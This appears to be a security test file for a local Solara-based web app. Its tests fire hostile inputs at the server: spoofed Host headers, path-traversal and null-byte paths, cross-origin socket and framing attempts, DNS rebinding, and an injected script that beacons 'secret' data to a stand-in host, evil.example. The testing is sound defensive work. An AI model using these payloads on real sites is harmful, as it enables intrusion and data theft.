"""The door of the app: what other pages, other names and other programs ask of it, from a real Chromium and by plain requests."""

from __future__ import annotations

import http.client
import re
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NamedTuple
from uuid import uuid4

import pytest
from playwright.sync_api import Browser, Page

from tests.app.driving import Person, chromium, serving

ASSETS = Path(sys.prefix) / "share" / "solara" / "cdn"

PROTECTION = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "cross-origin-resource-policy": "same-origin",
    "referrer-policy": "same-origin",
}

HANDSHAKE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}


Sent = str | list[str] | None
"""The value of a header: one that is None is left out, and one that is a list is sent more than once."""


@contextmanager
def asking(address: str, path: str, method: str, headers: dict[str, Sent]) -> Iterator[http.client.HTTPResponse]:
    """Ask as a program would. Yields the answer while the connection is open."""
    authority = address.removeprefix("http://")
    with closing(http.client.HTTPConnection(authority, timeout=20)) as connection:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in ({"Host": authority} | headers).items():
            for each in [value] if isinstance(value, str) else value or []:
                connection.putheader(name, each)
        connection.endheaders()
        with connection.getresponse() as answer:
            yield answer


class Answer(NamedTuple):
    """What came back."""

    status: int
    headers: Message
    text: str


def asked(address: str, path: str, method: str = "GET", **headers: Sent) -> Answer:
    """Ask as a program would, and read the answer."""
    with asking(address, path, method, headers) as answer:
        return Answer(answer.status, answer.headers, answer.read().decode("utf-8", "replace"))


def talks() -> str:
    """The path of the WebSocket of a new page."""
    return f"/jupyter/api/kernels/{uuid4()}/channels?session_id={uuid4()}"


@contextmanager
def knocking(address: str, path: str = "", **headers: Sent) -> Iterator[int]:
    """Ask for the WebSocket. Yields the status of the answer while the connection is open."""
    with asking(address, path or talks(), "GET", HANDSHAKE | {"Origin": address} | headers) as answer:
        yield answer.status


def knock(address: str, path: str = "", **headers: Sent) -> int:
    """Ask for the WebSocket, and go again. Returns the status of the answer."""
    with knocking(address, path, **headers) as status:
        return status


@pytest.fixture(scope="module")
def another(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The address of a server that nobody has asked anything yet, and its folder of assets, which has one of no use too."""
    assets = tmp_path_factory.mktemp("assets")
    for folder in ("@widgetti", *(each.name for each in ASSETS.glob("requirejs@*"))):
        (assets / folder).symlink_to(ASSETS / folder)
    (assets / "of-no-use@1.0.0").mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOLARA_ASSETS_PROXY_CACHE_DIR", str(assets))
        with serving("pie", "--host", "localhost") as address:
            yield address, assets


@pytest.fixture(scope="module")
def hostile(browser: Browser) -> Iterator[Page]:
    """A page of another origin."""

    class Server(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>hostile</title>")

        def log_message(self, *said: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Server) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{server.server_port}/")
        yield page
        page.close()
        server.shutdown()


def test_a_header_of_the_first_request_does_not_say_where_the_page_finds_its_scripts(another: tuple[str, Path]) -> None:
    address, _ = another
    asked(address, "/", **{"X-Script-Name": "//evil.example", "Script-Name": "//evil.example", "X-Forwarded-Proto": "https"})
    assert "evil.example" not in asked(address, "/").text


def test_names_of_this_machine_are_answered(address: str) -> None:
    port = address.rpartition(":")[2]
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}", f"[::1]:{port}"):
        assert asked(address, "/", Host=host).status == 200, host
        assert knock(address, Host=host, Origin=f"http://{host.lower()}") == 101, host


STRANGE_NAMES: list[Callable[[str], Sent]] = [
    lambda port: f"evil.example:{port}",
    lambda port: f"127.0.0.1.evil.example:{port}",
    lambda port: f"evil.example@127.0.0.1:{port}",
    lambda port: f"localhost.:{port}",
    lambda port: f"192.168.0.1:{port}",
    lambda port: f"127.0.0.1:{int(port) - 1}",
    lambda port: "127.0.0.1",
    lambda port: "",
    lambda port: None,
    lambda port: [f"evil.example:{port}", f"127.0.0.1:{port}"],
    lambda port: [f"127.0.0.1:{port}", f"evil.example:{port}"],
]


@pytest.mark.parametrize("host_of", STRANGE_NAMES)
def test_another_name_is_refused(host_of: Callable[[str], Sent], address: str) -> None:
    host = host_of(address.rpartition(":")[2])
    assert asked(address, "/", Host=host).status in (400, 403)
    assert asked(address, "/static/main-vuetify.js", Host=host).status in (400, 403)
    assert knock(address, Host=host) in (400, 403)
    if isinstance(host, str):
        assert knock(address, Host=host, Origin=f"http://{host}") in (400, 403)


def test_who_comes_by_another_name_is_told_the_address(address: str) -> None:
    said = asked(address, "/", Host="evil.example").text
    assert said == f"negosim answers at {address} alone. For another name start it with: negosim view --host NAME\n"


@pytest.mark.parametrize("origin", [None, "null", "", "http://evil.example", "http://127.0.0.1", "http://localhost:{port}", "https://{own}"])
def test_only_its_own_page_opens_the_socket_and_closes_a_page(origin: str | None, address: str) -> None:
    own = address.removeprefix("http://")
    given = origin and origin.format(port=own.rpartition(":")[2], own=own)
    assert knock(address, Origin=given) == 403
    assert asked(address, f"/_solara/api/close/{uuid4()}?session_id=1", "POST", Origin=given).status == 403
    assert knock(address) == 101
    assert asked(address, f"/_solara/api/close/{uuid4()}?session_id=1", "POST", Origin=address).status == 200


NOT_NEEDED = [
    "/readyz",
    "/resourcez",
    "/resourcez?verbose",
    "/elsewhere",
    "/_solara/cdn/of-no-use@1.0.0",
    "/_solara/cdn/requirejs@2.3.6/require.js",
    "/_solara/cdn/left-pad@1.3.0/index.js",
    "/_solara/api/evict/1",
    "/assets",
    "/assets/",
    "/assets/of-no-use@1.0.0",
    "/assets/left-pad@1.3.0/index.js",
    "/assets/@widgetti",
    "/assets/@widgetti/solara-vuetify-app@10.1.1/dist",
    "/assets/@widgetti/solara-vuetify-app@10.1.1/dist/..woff2",
    "/assets/@widgetti/solara-vuetify-app@10.1.1/dist/solara-vuetify-app8.min.js.map",
    "/assets/@widgetti/solara-vuetify-app@../dist/fonts.css",
    "/assets/@widgetti/solara-vuetify-app@10.1.1/dist/..%2f..%2fx.woff2",
    "/assets/requirejs@2.3.6/require.js/",
    "/assets/../assets/requirejs@2.3.6/require.js",
    "/assets//requirejs@2.3.6/require.js",
    "/static/",
    "/static/solara_bootstrap.py",
    "/static/../settings.py",
    "/static/%2e%2e/settings.py",
    "/static/..%2fsettings.py",
    "//static/main-vuetify.js",
    "/static//main-vuetify.js",
    "/static/assets/..%5c..%5csettings.py",
    "/static/main-vuetify.js%00",
    "/static/main-vuetify.js%0a",
    "/static/public/x",
    "/jupyter/nbextensions/jupyter-js-widgets/extension.js",
    "/jupyter/api/kernels/1",
    "http://evil.example/",
]


def test_what_the_page_does_not_need_is_not_there(another: tuple[str, Path]) -> None:
    address, assets = another
    before = sorted(assets.rglob("*"))
    assert {path: asked(address, path).status for path in NOT_NEEDED} == dict.fromkeys(NOT_NEEDED, 404)
    assert sorted(assets.rglob("*")) == before
    assert knock(address, "/jupyter/api/kernels/1/channels?session_id=1") == 403


def test_only_what_changes_nothing_is_asked_but_for_the_closing_of_a_page(address: str) -> None:
    for path in ("/", "/static/main-vuetify.js", "/static/assets/style.css"):
        assert asked(address, path, "HEAD").status == 200
        for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"):
            assert asked(address, path, method, Origin=address).status == 405, (path, method)
    for method in ("GET", "HEAD", "DELETE"):
        assert asked(address, f"/_solara/api/close/{uuid4()}?session_id=1", method, Origin=address).status == 405


def test_every_answer_says_what_a_page_may_do(address: str) -> None:
    for path in ("/", "/static/main-vuetify.js", "/elsewhere", "/assets/requirejs@2.3.6/require.js"):
        for host in (address.removeprefix("http://"), "evil.example"):
            answer = asked(address, path, Host=host)
            assert {name: answer.headers[name] for name in PROTECTION} == PROTECTION
            assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
            assert answer.headers["access-control-allow-origin"] is None
    policy = dict(each.split(" ", 1) for each in asked(address, "/").headers["content-security-policy"].split("; "))
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert "'unsafe-inline'" not in policy["script-src"] and "*" not in str(policy)
    assert policy["connect-src"] == "'self'"
    assert "HttpOnly" in asked(address, "/").headers["set-cookie"]


SOCKET = """address => new Promise(done => {
    const socket = new WebSocket(address.replace('http', 'ws'))
    socket.onopen = () => done('open')
    socket.onerror = () => done('refused') })"""
READ = "([address, options]) => fetch(address, options).then(answer => answer.type + ' ' + answer.status, () => 'refused')"
ELEMENT = """([kind, address]) => new Promise(done => {
    const element = document.createElement(kind)
    element.onload = () => done('loaded')
    element.onerror = () => done('refused')
    element.src = address
    document.body.appendChild(element) })"""


def test_a_hostile_page_neither_reads_nor_uses_nor_closes_the_page_of_a_person(hostile: Page, person: Person) -> None:
    own = person.page.evaluate("solara.debug.ws().url")
    leaving = re.sub(r"^ws(.*)/jupyter/api/kernels/(.*)/channels", r"http\1/_solara/api/close/\2", own)
    assert "/_solara/api/close/" in leaving and hostile.evaluate(SOCKET, own) == "refused"
    assert hostile.evaluate(SOCKET, person.address + talks()) == "refused"
    for path in ("/", "/static/main-vuetify.js"):
        for options in ({}, {"mode": "no-cors"}, {"mode": "no-cors", "credentials": "include"}):
            assert hostile.evaluate(READ, [person.address + path, options]) == "refused", (path, options)
    hostile.evaluate(READ, [leaving, {"method": "POST", "mode": "no-cors", "credentials": "include"}])
    hostile.evaluate("address => navigator.sendBeacon(address)", leaving)
    assert hostile.evaluate(ELEMENT, ["script", person.address + "/static/main-vuetify.js"]) == "refused"
    assert hostile.evaluate(ELEMENT, ["img", person.address + "/static/assets/favicon.png"]) == "refused"
    person.press("Step").stands_at("Round 1 of")


def test_a_hostile_page_cannot_frame_it(hostile: Page, address: str) -> None:
    with hostile.expect_event("framenavigated", lambda frame: frame.parent_frame is not None):
        hostile.evaluate(ELEMENT, ["iframe", address])
    assert [frame.url for frame in hostile.frames if address in frame.url] == []


def test_a_hostile_page_deletes_and_fetches_nothing(hostile: Page, another: tuple[str, Path]) -> None:
    address, assets = another
    before = sorted(assets.rglob("*"))
    for path in ("/_solara/cdn/of-no-use@1.0.0", "/assets/of-no-use@1.0.0", "/_solara/cdn/left-pad@1.3.0/index.js"):
        for kind in ("img", "script"):
            assert hostile.evaluate(ELEMENT, [kind, address + path]) == "refused"
    assert sorted(assets.rglob("*")) == before


def test_a_name_that_comes_to_mean_this_machine_is_refused(browser: Browser, address: str) -> None:
    rebound = address.replace("127.0.0.1", "rebound.example")
    rules = "--host-resolver-rules=MAP rebound.example 127.0.0.1"
    deceived = browser.browser_type.launch(executable_path=chromium(), args=["--no-sandbox", rules])
    page = deceived.new_context(bypass_csp=True).new_page()
    answer = page.goto(rebound)
    assert answer is not None and answer.status == 403
    assert page.evaluate(READ, [rebound + "/static/main-vuetify.js", {}]) == "basic 403"
    assert page.evaluate(SOCKET, rebound + talks()) == "refused"
    deceived.close()


def test_what_is_written_into_the_page_is_not_run_and_reaches_nobody(browser: Browser, address: str) -> None:
    page = browser.new_page()
    page.goto(address)
    page.get_by_text("Before round 1").first.wait_for()
    page.evaluate("""async () => {
        window.broken = []
        document.addEventListener('securitypolicyviolation', one => window.broken.push(one.effectiveDirective))
        const written = document.createElement('div')
        written.innerHTML = '<img src="x" onerror="window.ran = true"><iframe src="https://evil.example/"></iframe>'
        document.body.appendChild(written)
        const script = document.createElement('script')
        script.textContent = 'window.ran = true'
        document.body.appendChild(script)
        new Image().src = 'https://evil.example/?secret'
        await fetch('https://evil.example/').catch(() => null)
        await new Promise(resolve => setTimeout(resolve, 500)) }""")
    assert page.evaluate("window.ran") is None
    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src", "frame-src"} <= set(page.evaluate("window.broken"))
    page.close()


def test_there_is_an_end_to_how_many_pages_are_let_in_and_one_that_was_lost_may_come_back(another: tuple[str, Path]) -> None:
    address, lost, whose = another[0], talks(), {"Cookie": "solara-session-id=1"}
    with ExitStack() as opened:
        answers = [opened.enter_context(knocking(address, lost if number == 0 else "", **whose)) for number in range(101)]
    assert answers == [101] * 100 + [403]
    for _ in range(400):  # until the server has noticed that they have gone
        if (back := knock(address, lost, **whose)) == 101:
            break
        time.sleep(0.05)
    assert back == 101
    assert knock(address) == 403
